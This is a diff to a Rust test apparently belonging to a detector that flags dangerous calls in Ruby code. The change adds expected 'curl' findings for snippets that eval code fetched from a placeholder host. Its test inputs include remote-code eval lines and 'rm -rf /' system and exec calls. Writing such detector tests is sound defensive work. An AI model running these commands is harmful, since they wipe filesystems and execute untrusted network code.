@@ -42,7 +42,10 @@ fn programs_and_calls_are_found() {
                 "%w[a b].each { |d| FileUtils.rm_rf(d) }",
                 &["call: rm -rf -- a b"],
             ),
-            ("eval Net::HTTP.get(URI('http://h'))", &["code: <fetched>"]),
+            (
+                "eval Net::HTTP.get(URI('http://h'))",
+                &["code: <fetched>", "call: curl -- http://h"],
+            ),
             ("system('rm', '-rf', '/')", &["run: rm -rf /"]),
             ("exec 'rm', '-rf', '/'", &["run: rm -rf /"]),
             ("system(*%w[rm -rf /])", &["run: rm -rf /"]),
@@ -89,7 +92,7 @@ fn programs_and_calls_are_found() {
             ("eval 'puts 1'", &["code: puts 1"]),
             (
                 "require 'open-uri'; eval(URI.open('http://h').read)",
-                &["code: <fetched>"],
+                &["code: <fetched>", "call: curl -- http://h"],
             ),
         ],
     );
